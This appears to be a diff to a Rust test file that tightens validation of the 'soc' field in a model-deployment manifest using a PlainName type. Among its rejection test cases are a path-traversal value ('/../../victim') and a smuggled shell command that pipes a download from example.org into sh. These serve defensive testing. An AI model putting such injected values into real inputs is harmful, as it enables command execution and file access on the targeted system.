@@ -8,7 +8,7 @@ use serde_json::{Value, json};
 use shardwright_graph::{ComponentKind, State, StateKind};
 use shardwright_vocabulary::{
     ActivationFormat, AttentionFormat, ChosenSpeculation, DType, EntryKind, EntryName, ErrorKind, Flag,
-    FlagRecord, FlagVerdict, FormatTuple, Granularity, NodePlacement, Notice, NoticeKind, Pass,
+    FlagRecord, FlagVerdict, FormatTuple, Granularity, NodePlacement, Notice, NoticeKind, Pass, PlainName,
     PlannerIdentity, Provenance, Quantisation, Result, Rewrite, RewriteKind, RoleFormat, Segment,
     SegmentFormats, ShardFormats, ShimIdentity, StateFormat, Target, TargetKind, WeightFormat, WeightRole,
     scale_count,
@@ -89,7 +89,7 @@ fn sample() -> Manifest {
         tokenizer_index: Some(file("index")),
         goldens: Some(file("goldens")),
         variants: vec![Variant {
-            soc: "mt6989".to_owned(),
+            soc: PlainName::new("mt6989").unwrap(),
             aliases: vec!["MT6989Z".to_owned()],
             calibration: Some(Digest::of(b"calibration")),
             planner: PlannerIdentity {
@@ -296,10 +296,7 @@ fn contradictions_are_refused_by_field_on_writing_and_reading() {
         ("program", |m| m.program.clear()),
         ("model.name", |m| m.model.name = "a\u{1b}[2Jb".to_owned()),
         ("model.family", |m| m.model.family = "a\nb".to_owned()),
-        ("variants[0].soc", |m| m.variants[0].soc.clear()),
-        ("variants[0].soc", |m| m.variants[0].soc = "/../../victim".to_owned()),
-        ("variants[0].soc", |m| m.variants[0].soc = "x`; curl example.org|sh #".to_owned()),
-        ("variants[0].soc", |m| m.variants[0].soc = "SM8750".to_owned()),
+        ("variants[0].soc", |m| m.variants[0].soc = PlainName::new("SM8750").unwrap()),
         ("variants[0].planner.name", |m| m.variants[0].planner.name.clear()),
         ("variants[0].planner.version", |m| m.variants[0].planner.version.clear()),
         ("variants[0].options", |m| drop(m.variants[0].options.insert(String::new(), Value::Null))),
@@ -463,7 +460,6 @@ fn contradictions_are_refused_by_field_on_writing_and_reading() {
 #[test]
 fn everything_with_a_length_is_capped() {
     let mistakes: &[Mistake] = &[
-        ("variants[0].soc", |m| m.variants[0].soc = "x".repeat(NAME_BYTES_MAX as usize + 1)),
         ("variants[0].options", |m| {
             m.variants[0].options = (0..5000).map(|n| (n.to_string(), Value::Null)).collect()
         }),
@@ -650,6 +646,9 @@ fn anything_but_a_manifest_is_refused_with_its_offset() {
         (format!("{{\"program\":{}", "[".repeat(100_000)), "expected a string"),
         (format!("{json}{json}"), "trailing"),
         (other("\"hidden\":4", "\"hidden\":4.0"), "floating point"),
+        (other("\"soc\":\"mt6989\"", "\"soc\":\"\""), "not a plain name"),
+        (other("\"soc\":\"mt6989\"", "\"soc\":\"/../../victim\""), "not a plain name"),
+        (other("\"soc\":\"mt6989\"", "\"soc\":\"x`; curl example.org|sh #\""), "not a plain name"),
         (other("\"hidden\":4", "\"hidden\":-4"), "expected u64"),
         (other("\"hidden\":4", "\"hidden\":18446744073709551616"), "expected u64"),
         (other("\"soc\":", "\"zoc\":"), "unknown field"),
@@ -897,7 +896,7 @@ fn chain_entry(index: usize) -> impl Strategy<Value = ChainEntry> {
 prop_compose! {
     fn variant()(
         (soc, aliases, calibration) in (
-            word(),
+            "[a-z0-9][a-z0-9-]{0,10}[a-z0-9]",
             proptest::collection::vec(word(), 0..3),
             proptest::option::of(digest()),
         ),
@@ -912,7 +911,7 @@ prop_compose! {
         notices in proptest::collection::vec((any::<bool>(), sentence()), 0..3),
     ) -> Variant {
         Variant {
-            soc,
+            soc: PlainName::new(soc).unwrap(),
             aliases,
             calibration,
             planner: PlannerIdentity { name: planner, version, built_in },
@@ -966,7 +965,7 @@ prop_compose! {
             texts.insert(TextFile::Tokenizer, index);
         }
         for (index, variant) in variants.iter_mut().enumerate() {
-            variant.soc = format!("chip-{index}");
+            variant.soc = PlainName::new(format!("chip-{index}")).unwrap();
         }
         Manifest {
             program,
